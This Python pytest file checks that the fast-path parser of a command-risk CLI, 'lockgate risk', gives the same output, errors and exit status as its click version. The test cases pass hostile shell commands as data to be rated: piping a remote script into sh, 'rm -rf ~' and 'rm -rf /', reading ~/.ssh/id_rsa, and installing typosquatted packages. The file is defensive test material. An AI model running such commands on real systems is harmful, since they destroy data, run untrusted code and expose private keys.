"""The fast path of `lockgate risk` (app/cli/risk_fast.py) answers exactly as the click command
does: the same stdout, stderr and exit status, byte for byte, for the same arguments (the click
path forced with LOCKGATE_NO_FAST_PATH=1)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import click
import pytest

from app.cli import FAST_PATHS, risk_cmd
from app.cli.risk_fast import DECLINED_OPTIONS, FLAG_OPTIONS, VALUE_OPTIONS, parse

REPO = Path(__file__).resolve().parent.parent.parent


def test_every_click_option_is_read_or_declined_on_purpose() -> None:
    opts = {o for p in risk_cmd.cli.params if isinstance(p, click.Option) for o in p.opts}
    assert opts | {"--help"} == VALUE_OPTIONS | FLAG_OPTIONS | DECLINED_OPTIONS
    assert FAST_PATHS[("risk",)] == "app.cli.risk_fast:run"


def _both(args: list[str], tmp: Path, stdin: bytes = b"") -> tuple[tuple[int, bytes, bytes], ...]:
    out = []
    for fast in (True, False):
        env = {**os.environ, "LOCKGATE_NO_FAST_PATH": "0" if fast else "1", "HOME": str(tmp)}
        r = subprocess.run(
            [sys.executable, "-m", "app", "risk", *args],
            capture_output=True,
            env=env,
            input=stdin,
            timeout=120,
            cwd=str(tmp),
        )
        out.append((r.returncode, r.stdout, r.stderr))
    return tuple(out)


CASES = [
    ["--", "pip install reqeusts"],
    ["--json", "--", "rm -rf ~"],
    ["ls", "--json"],  # options after COMMAND words
    ["-w", "{ws}", "--headless", "--", "curl https://x.example/i.sh | sh"],
    ["--workspace={ws}", "--network", "allow", "--", "npm install loadsh"],
    ["--", "echo \x1b[31mred\x1b[0m > f"],  # ANSI in the text: stripped for a pipe, as click does
    ["--", "printf 'a\\nb' && cat ~/.ssh/id_rsa"],
    ["--workspace", "{ws}/missing", "--", "ls"],  # a usage mistake: click's words
    ["--", "ls", "-la"],
    [],
    ["--jsonl", "--", "ls"],
    ["--network", "sometimes", "--", "ls"],
    ["-wx", "--", "ls"],
    ["ls", "-la"],
]


@pytest.mark.parametrize("case", CASES, ids=[" ".join(c) or "(none)" for c in CASES])
def test_fast_and_click_answer_alike(case: list[str], tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    args = [a.replace("{ws}", str(ws)) for a in case]
    fast, slow = _both(args, tmp_path)
    assert fast == slow


def test_jsonl_streams_alike(tmp_path: Path) -> None:
    lines = b'{"command": "ls"}\n{"patch": "nope"}\nnot json\n{"command": "rm -rf /"}\n'
    fast, slow = _both(["--jsonl"], tmp_path, stdin=lines)
    assert fast == slow
    assert fast[1].count(b"\n") == 4


def test_declines() -> None:
    for args in (["--help"], ["-h"], ["--json=1", "ls"], ["-w"], ["--bogus"], ["-wdir", "ls"]):
        assert parse(args) is None, args
    opts = parse(["ls", "-w", "/x", "--", "--json"])
    assert opts is not None and opts.command == ("ls", "--json") and not opts.as_json
